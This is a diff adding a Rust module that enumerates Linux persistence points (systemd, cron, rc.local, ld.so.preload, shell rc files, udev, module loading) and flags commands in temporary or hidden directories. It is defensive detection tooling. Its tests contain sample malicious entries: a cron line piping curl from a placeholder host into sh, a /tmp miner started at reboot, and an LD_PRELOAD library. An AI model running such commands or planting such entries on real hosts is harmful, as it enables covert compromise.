@@ -0,0 +1,512 @@
+use std::collections::BTreeSet;
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+
+// ==================== KALICILIK NOKTALARI ====================
+
+const SYSTEMD_SYSTEM_DIRS: &[&str] = &[
+    "/etc/systemd/system",
+    "/run/systemd/system",
+    "/usr/local/lib/systemd/system",
+    "/usr/lib/systemd/system",
+    "/lib/systemd/system",
+];
+const SYSTEMD_USER_DIRS: &[&str] = &["/etc/systemd/user", "/usr/lib/systemd/user"];
+const CRON_DIRS: &[&str] = &["/etc/cron.d"];
+const CRON_SPOOL_DIRS: &[&str] = &["/var/spool/cron/crontabs", "/var/spool/cron"];
+const CRON_SCRIPT_DIRS: &[&str] = &["/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly"];
+const SHELL_RC_FILES: &[&str] = &["/etc/profile", "/etc/bash.bashrc", "/etc/bashrc", "/etc/zsh/zshrc", "/etc/zshrc"];
+const USER_SHELL_RC_FILES: &[&str] = &[".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zprofile"];
+const XDG_AUTOSTART_DIRS: &[&str] = &["/etc/xdg/autostart"];
+const UDEV_RULE_DIRS: &[&str] = &["/etc/udev/rules.d", "/run/udev/rules.d", "/usr/lib/udev/rules.d", "/lib/udev/rules.d"];
+const MODULE_LOAD_DIRS: &[&str] = &["/etc/modules-load.d", "/run/modules-load.d", "/usr/lib/modules-load.d"];
+const MODPROBE_DIRS: &[&str] = &["/etc/modprobe.d", "/run/modprobe.d", "/usr/lib/modprobe.d", "/lib/modprobe.d"];
+
+const SEARCH_PATH: &[&str] = &["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"];
+const INTERPRETERS: &[&str] = &["sh", "bash", "dash", "zsh", "python", "python3", "perl", "ruby", "php", "env", "nohup", "setsid"];
+const SUSPICIOUS_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum PersistenceKind {
+    SystemdUnit,
+    Cron,
+    Anacron,
+    RcLocal,
+    LdPreload,
+    ShellRc,
+    XdgAutostart,
+    UdevRule,
+    ModuleLoad,
+}
+
+impl fmt::Display for PersistenceKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            PersistenceKind::SystemdUnit => write!(f, "SystemdUnit"),
+            PersistenceKind::Cron => write!(f, "Cron"),
+            PersistenceKind::Anacron => write!(f, "Anacron"),
+            PersistenceKind::RcLocal => write!(f, "RcLocal"),
+            PersistenceKind::LdPreload => write!(f, "LdPreload"),
+            PersistenceKind::ShellRc => write!(f, "ShellRc"),
+            PersistenceKind::XdgAutostart => write!(f, "XdgAutostart"),
+            PersistenceKind::UdevRule => write!(f, "UdevRule"),
+            PersistenceKind::ModuleLoad => write!(f, "ModuleLoad"),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PersistenceEntry {
+    pub kind: PersistenceKind,
+    // Configuration file that holds the entry
+    pub source: PathBuf,
+    pub line: usize,
+    pub command: String,
+    // Existing files the command would run or load
+    pub executables: Vec<PathBuf>,
+}
+
+impl PersistenceEntry {
+    fn new(kind: PersistenceKind, source: &Path, line: usize, command: &str) -> Self {
+        let command = command.trim().to_string();
+        let executables = referenced_files(kind, &command);
+        PersistenceEntry {
+            kind,
+            source: source.to_path_buf(),
+            line,
+            command,
+            executables,
+        }
+    }
+
+    // Anything the command names in a world-writable directory, existing or not, and programs
+    // it runs from hidden directories. Hidden directories merely put on PATH are not reported.
+    pub fn suspicious_paths(&self) -> Vec<String> {
+        let mut paths: BTreeSet<String> = path_tokens(&self.command)
+            .into_iter()
+            .filter(|path| in_writable_dir(path))
+            .collect();
+        paths.extend(
+            self.executables
+                .iter()
+                .map(|path| path.to_string_lossy().to_string())
+                .filter(|path| in_hidden_dir(path)),
+        );
+        paths.into_iter().collect()
+    }
+}
+
+pub fn in_writable_dir(path: &str) -> bool {
+    SUSPICIOUS_DIRS.iter().any(|dir| path.starts_with(dir))
+}
+
+// A hidden directory on the way, not a hidden file name itself
+fn in_hidden_dir(path: &str) -> bool {
+    let directories = path.rsplit_once('/').map(|(directories, _)| directories).unwrap_or_default();
+    directories.split('/').any(|part| part.starts_with('.') && part != "." && part != "..")
+}
+
+// Every persistence entry we know how to find, across the system and all login users
+pub fn enumerate() -> Vec<PersistenceEntry> {
+    let mut entries = Vec::new();
+    let homes = user_homes();
+
+    let mut unit_dirs: Vec<PathBuf> = SYSTEMD_SYSTEM_DIRS.iter().chain(SYSTEMD_USER_DIRS).map(PathBuf::from).collect();
+    unit_dirs.extend(homes.iter().map(|home| home.join(".config/systemd/user")));
+    for file in files_in(&unit_dirs, 2) {
+        for (line, text) in lines(&file) {
+            let Some((key, value)) = text.split_once('=') else {
+                continue;
+            };
+            if key.trim().starts_with("Exec") {
+                // "ExecStart=-/usr/bin/foo" prefixes only change how failures are handled
+                let value = value.trim_start_matches(['@', '-', ':', '+', '!']);
+                entries.push(PersistenceEntry::new(PersistenceKind::SystemdUnit, &file, line, value));
+            }
+        }
+    }
+
+    let mut crontabs = vec![PathBuf::from("/etc/crontab")];
+    crontabs.extend(files_in(&paths(CRON_DIRS), 1));
+    for file in crontabs {
+        entries.extend(cron_entries(&file, true));
+    }
+    for file in files_in(&paths(CRON_SPOOL_DIRS), 1) {
+        entries.extend(cron_entries(&file, false));
+    }
+    for file in files_in(&paths(CRON_SCRIPT_DIRS), 1) {
+        let command = file.to_string_lossy().to_string();
+        entries.push(PersistenceEntry::new(PersistenceKind::Cron, &file, 0, &command));
+    }
+
+    let anacrontab = Path::new("/etc/anacrontab");
+    for (line, text) in lines(anacrontab) {
+        // "period delay job-identifier command"; assignments are skipped
+        let command = skip_fields(&text, 3);
+        if !text.split_whitespace().next().unwrap_or_default().contains('=') && !command.is_empty() {
+            entries.push(PersistenceEntry::new(PersistenceKind::Anacron, anacrontab, line, command));
+        }
+    }
+
+    let rc_local = Path::new("/etc/rc.local");
+    if rc_local.is_file() {
+        entries.push(PersistenceEntry::new(PersistenceKind::RcLocal, rc_local, 0, "/etc/rc.local"));
+        for (line, text) in lines(rc_local) {
+            entries.push(PersistenceEntry::new(PersistenceKind::RcLocal, rc_local, line, &text));
+        }
+    }
+
+    let preload = Path::new("/etc/ld.so.preload");
+    for (line, text) in lines(preload) {
+        for library in text.split_whitespace() {
+            entries.push(PersistenceEntry::new(PersistenceKind::LdPreload, preload, line, library));
+        }
+    }
+
+    let mut shell_rc: Vec<PathBuf> = paths(SHELL_RC_FILES);
+    shell_rc.extend(files_in(&[PathBuf::from("/etc/profile.d")], 1));
+    for home in &homes {
+        shell_rc.extend(USER_SHELL_RC_FILES.iter().map(|name| home.join(name)));
+    }
+    for file in shell_rc {
+        for (line, text) in lines(&file) {
+            // Only lines that name a file are worth following; aliases and exports of plain values are not
+            if !path_tokens(&text).is_empty() {
+                entries.push(PersistenceEntry::new(PersistenceKind::ShellRc, &file, line, &text));
+            }
+        }
+    }
+
+    let mut autostart_dirs = paths(XDG_AUTOSTART_DIRS);
+    autostart_dirs.extend(homes.iter().map(|home| home.join(".config/autostart")));
+    for file in files_in(&autostart_dirs, 1) {
+        for (line, text) in lines(&file) {
+            if let Some(command) = text.strip_prefix("Exec=") {
+                entries.push(PersistenceEntry::new(PersistenceKind::XdgAutostart, &file, line, command));
+            }
+        }
+    }
+
+    for file in files_in(&paths(UDEV_RULE_DIRS), 1) {
+        for (line, text) in lines(&file) {
+            for command in udev_programs(&text) {
+                entries.push(PersistenceEntry::new(PersistenceKind::UdevRule, &file, line, &command));
+            }
+        }
+    }
+
+    let mut module_files = vec![PathBuf::from("/etc/modules")];
+    module_files.extend(files_in(&paths(MODULE_LOAD_DIRS), 1));
+    for file in module_files {
+        for (line, text) in lines(&file) {
+            entries.push(PersistenceEntry::new(PersistenceKind::ModuleLoad, &file, line, &text));
+        }
+    }
+    for file in files_in(&paths(MODPROBE_DIRS), 1) {
+        for (line, text) in lines(&file) {
+            // "install <module> <command>" runs a command instead of loading the module
+            let mut words = text.splitn(3, char::is_whitespace);
+            if let (Some("install" | "remove"), Some(_), Some(command)) = (words.next(), words.next(), words.next()) {
+                entries.push(PersistenceEntry::new(PersistenceKind::ModuleLoad, &file, line, command));
+            }
+        }
+    }
+
+    entries
+}
+
+fn paths(list: &[&str]) -> Vec<PathBuf> {
+    list.iter().map(PathBuf::from).collect()
+}
+
+// Regular files below the given directories; missing directories are skipped
+fn files_in(dirs: &[PathBuf], depth: usize) -> Vec<PathBuf> {
+    let mut files = BTreeSet::new();
+    for dir in dirs {
+        for entry in walkdir::WalkDir::new(dir)
+            .max_depth(depth)
+            .follow_links(false)
+            .into_iter()
+            .filter_map(|entry| entry.ok())
+        {
+            if entry.file_type().is_file() {
+                files.insert(entry.into_path());
+            }
+        }
+    }
+    files.into_iter().collect()
+}
+
+// Non-empty, non-comment lines with 1-based line numbers; continuation lines are joined
+fn lines(path: &Path) -> Vec<(usize, String)> {
+    let Ok(content) = fs::read(path) else {
+        return Vec::new();
+    };
+    let content = String::from_utf8_lossy(&content);
+
+    let mut lines = Vec::new();
+    let mut pending: Option<(usize, String)> = None;
+    for (index, raw) in content.lines().enumerate() {
+        let (number, mut text) = pending.take().unwrap_or((index + 1, String::new()));
+        text.push_str(raw.trim());
+        if let Some(stripped) = text.strip_suffix('\\') {
+            pending = Some((number, format!("{} ", stripped.trim_end())));
+            continue;
+        }
+        if !text.is_empty() && !text.starts_with('#') && !text.starts_with(';') {
+            lines.push((number, text));
+        }
+    }
+    lines.extend(pending);
+    lines
+}
+
+fn cron_entries(path: &Path, system_table: bool) -> Vec<PersistenceEntry> {
+    let mut entries = Vec::new();
+
+    for (line, text) in lines(path) {
+        let first = text.split_whitespace().next().unwrap_or_default();
+        // Variable assignments such as "PATH=..." or "MAILTO=root"
+        if first.contains('=') {
+            continue;
+        }
+        // "@reboot" style schedules replace the five time fields
+        let schedule_fields = if first.starts_with('@') { 1 } else { 5 };
+        let command = skip_fields(&text, schedule_fields + usize::from(system_table));
+        if !command.is_empty() {
+            entries.push(PersistenceEntry::new(PersistenceKind::Cron, path, line, command));
+        }
+    }
+
+    entries
+}
+
+// What follows the first `count` whitespace-separated fields, spacing preserved
+fn skip_fields(text: &str, count: usize) -> &str {
+    let mut rest = text;
+    for _ in 0..count {
+        rest = rest.trim_start();
+        rest = rest.find(char::is_whitespace).map_or("", |end| &rest[end..]);
+    }
+    rest.trim()
+}
+
+// RUN+="...", PROGRAM="..." and IMPORT{program}="..." assignments of a udev rule
+fn udev_programs(line: &str) -> Vec<String> {
+    let mut programs = Vec::new();
+    for key in ["RUN", "PROGRAM", "IMPORT{program}"] {
+        let mut rest = line;
+        while let Some(found) = rest.find(key) {
+            let after = &rest[found + key.len()..];
+            let after = after.trim_start_matches(|c: char| c == '{' || c.is_alphanumeric() || c == '}');
+            let value = after
+                .strip_prefix("+=")
+                .or_else(|| after.strip_prefix(":="))
+                .or_else(|| after.strip_prefix('='))
+                .and_then(|value| value.strip_prefix('"'));
+            if let Some(value) = value {
+                if let Some(end) = value.find('"') {
+                    programs.push(value[..end].to_string());
+                }
+            }
+            rest = after;
+        }
+    }
+    programs
+}
+
+// Absolute paths written in a command, stripped of quotes and shell punctuation
+fn path_tokens(command: &str) -> Vec<String> {
+    command
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '=' | '>' | '<'))
+        .map(|token| token.trim_matches(|c| matches!(c, '"' | '\'' | ',')))
+        .filter(|token| token.starts_with('/') && token.len() > 1)
+        .map(|token| token.to_string())
+        .collect()
+}
+
+fn resolve_program(program: &str) -> Option<PathBuf> {
+    if program.starts_with('/') {
+        return Some(PathBuf::from(program));
+    }
+    SEARCH_PATH
+        .iter()
+        .map(|dir| Path::new(dir).join(program))
+        .find(|candidate| candidate.is_file())
+}
+
+// The program itself plus every absolute path it is handed, so "sh /tmp/x.sh" yields both
+fn referenced_files(kind: PersistenceKind, command: &str) -> Vec<PathBuf> {
+    let mut files = BTreeSet::new();
+
+    // Module names in modules-load files are not programs
+    let names_program = kind != PersistenceKind::ModuleLoad || command.contains('/');
+    if names_program {
+        let program = command
+            .split_whitespace()
+            .next()
+            .map(|token| token.trim_matches(|c| matches!(c, '"' | '\'')))
+            .unwrap_or_default();
+        if !program.is_empty() && !INTERPRETERS.contains(&program) {
+            files.extend(resolve_program(program));
+        }
+    }
+    files.extend(path_tokens(command).into_iter().map(PathBuf::from));
+
+    files.into_iter().filter(|path| path.is_file()).collect()
+}
+
+// Home directories of accounts that can log in, plus root
+fn user_homes() -> Vec<PathBuf> {
+    let mut homes = BTreeSet::new();
+    homes.insert(PathBuf::from("/root"));
+    homes.extend(dirs::home_dir());
+
+    if let Ok(passwd) = fs::read_to_string("/etc/passwd") {
+        for line in passwd.lines() {
+            let fields: Vec<&str> = line.split(':').collect();
+            if fields.len() < 7 || fields[6].ends_with("nologin") || fields[6].ends_with("false") {
+                continue;
+            }
+            homes.insert(PathBuf::from(fields[5]));
+        }
+    }
+
+    homes.into_iter().filter(|home| home.is_dir() && home != Path::new("/")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn write(dir: &TempDir, name: &str, content: &str) -> PathBuf {
+        let path = dir.path().join(name);
+        fs::write(&path, content).unwrap();
+        path
+    }
+
+    fn commands(entries: &[PersistenceEntry]) -> Vec<(usize, &str)> {
+        entries.iter().map(|e| (e.line, e.command.as_str())).collect()
+    }
+
+    #[test]
+    fn reads_config_lines() {
+        let dir = TempDir::new().unwrap();
+        let file = write(&dir, "conf", "# comment\n; also comment\n\n  first  \nsecond \\\n  continued\nlast \\");
+        assert_eq!(
+            lines(&file),
+            vec![
+                (4, "first".to_string()),
+                (5, "second continued".to_string()),
+                (7, "last ".to_string()),
+            ]
+        );
+        assert!(lines(&dir.path().join("missing")).is_empty());
+
+        let binary = dir.path().join("binary");
+        fs::write(&binary, b"\xff\xfe run\n").unwrap();
+        assert_eq!(lines(&binary).len(), 1);
+    }
+
+    #[test]
+    fn parses_system_and_user_crontabs() {
+        let dir = TempDir::new().unwrap();
+        let system = write(
+            &dir,
+            "crontab",
+            "SHELL=/bin/sh\nPATH=/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /tmp/.x/miner -o pool\n* * *\n",
+        );
+        assert_eq!(
+            commands(&cron_entries(&system, true)),
+            vec![
+                (3, "cd / && run-parts --report /etc/cron.hourly"),
+                (4, "/tmp/.x/miner -o pool"),
+            ]
+        );
+
+        let user = write(&dir, "alice", "MAILTO=\"\"\n*/5 * * * * curl -s http://x | sh\n@daily   /home/alice/backup.sh\n");
+        let entries = cron_entries(&user, false);
+        assert_eq!(
+            commands(&entries),
+            vec![(2, "curl -s http://x | sh"), (3, "/home/alice/backup.sh")]
+        );
+        assert!(entries.iter().all(|e| e.kind == PersistenceKind::Cron && e.source == user));
+    }
+
+    #[test]
+    fn skips_leading_fields() {
+        assert_eq!(skip_fields("1 5 cron.daily  run-parts  /etc/cron.daily", 3), "run-parts  /etc/cron.daily");
+        assert_eq!(skip_fields("  a   b  ", 1), "b");
+        assert_eq!(skip_fields("a b", 5), "");
+        assert_eq!(skip_fields("", 1), "");
+    }
+
+    #[test]
+    fn extracts_udev_programs() {
+        let rule = r#"ACTION=="add", RUN+="/tmp/hook.sh $kernel", PROGRAM="/bin/id", IMPORT{program}="/usr/lib/udev/x""#;
+        assert_eq!(udev_programs(rule), vec!["/tmp/hook.sh $kernel", "/bin/id", "/usr/lib/udev/x"]);
+        assert_eq!(udev_programs(r#"RUN:="/a""#), vec!["/a"]);
+        // Comparisons and unterminated values are not assignments
+        assert!(udev_programs(r#"RUN=="/a""#).is_empty());
+        assert!(udev_programs(r#"RUN+="/a"#).is_empty());
+        assert!(udev_programs(r#"SUBSYSTEM=="usb""#).is_empty());
+    }
+
+    #[test]
+    fn finds_paths_in_commands() {
+        assert_eq!(
+            path_tokens(r#"sh -c "cd /opt;exec '/tmp/x.sh'" >/dev/null 2>&1 LD_PRELOAD=/lib/evil.so"#),
+            vec!["/opt", "/tmp/x.sh", "/dev/null", "/lib/evil.so"]
+        );
+        assert!(path_tokens("echo / hello").is_empty());
+
+        assert!(in_writable_dir("/dev/shm/x"));
+        assert!(!in_writable_dir("/tmpfoo/x"));
+        assert!(in_hidden_dir("/home/a/.cache/x/run"));
+        assert!(!in_hidden_dir("/home/a/.hidden-file"));
+        assert!(!in_hidden_dir("./run"));
+        assert!(!in_hidden_dir("run"));
+    }
+
+    #[test]
+    fn resolves_referenced_files() {
+        let dir = TempDir::new().unwrap();
+        let hidden = dir.path().join(".config/tool");
+        fs::create_dir_all(&hidden).unwrap();
+        let agent = hidden.join("agent");
+        fs::write(&agent, "#!/bin/sh").unwrap();
+        let script = write(&dir, "job.sh", "echo");
+
+        let command = format!("bash {} --config {} /tmp/not-there", script.display(), agent.display());
+        let entry = PersistenceEntry::new(PersistenceKind::SystemdUnit, Path::new("/etc/x.service"), 3, &command);
+        // Interpreters are not reported themselves; missing files are dropped
+        assert_eq!(entry.executables, {
+            let mut expected = vec![agent.clone(), script.clone()];
+            expected.sort();
+            expected
+        });
+        // Everything under the temporary directory counts as world-writable here
+        let suspicious = entry.suspicious_paths();
+        assert!(suspicious.contains(&"/tmp/not-there".to_string()));
+        assert!(suspicious.contains(&agent.to_string_lossy().to_string()));
+
+        let plain = PersistenceEntry::new(PersistenceKind::Cron, Path::new("/etc/crontab"), 1, "/usr/bin/true");
+        assert!(plain.suspicious_paths().is_empty());
+
+        // Module names are not programs, but paths in modprobe commands are
+        let module = PersistenceEntry::new(PersistenceKind::ModuleLoad, Path::new("/etc/modules"), 1, "true");
+        assert!(module.executables.is_empty());
+        let program = PersistenceEntry::new(PersistenceKind::Cron, Path::new("/etc/crontab"), 1, "true");
+        assert!(program.executables.iter().all(|path| path.ends_with("true")));
+    }
+
+    #[test]
+    fn kinds_display_by_name() {
+        assert_eq!(PersistenceKind::LdPreload.to_string(), "LdPreload");
+        assert_eq!(PersistenceKind::XdgAutostart.to_string(), "XdgAutostart");
+    }
+}